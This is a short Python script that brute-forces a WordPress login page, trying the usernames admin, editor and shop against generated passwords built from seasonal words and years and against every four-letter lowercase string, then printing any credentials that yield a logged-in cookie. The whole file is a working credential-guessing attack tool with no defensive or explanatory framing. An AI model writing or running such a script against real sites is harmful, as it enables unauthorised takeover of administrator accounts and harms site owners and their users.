import itertools
import string
import sys

import requests

URL = "http://198.51.100.10/wp-login.php"


class Form:
    def __init__(self, url):
        self.url = url
        self.s = requests.Session()

    def submit(self, user, pw):
        r = self.s.post(self.url, data={"log": user, "pwd": pw, "wp-submit": "Log In"}, allow_redirects=False, timeout=8)
        return r.status_code == 302 and "wordpress_logged_in" in r.headers.get("Set-Cookie", "")


def candidates():
    for base in ("admin", "shop", "welcome", "summer", "winter"):
        for y in range(2015, 2027):
            for tail in ("", "!", "#", "1"):
                yield f"{base}{y}{tail}"
                yield f"{base.title()}{y}{tail}"
    yield from map("".join, itertools.product(string.ascii_lowercase, repeat=4))


f = Form(URL)
for user in ("admin", "editor", "shop"):
    for pw in candidates():
        if f.submit(user, pw):
            print("found", user, pw)
            sys.exit(0)
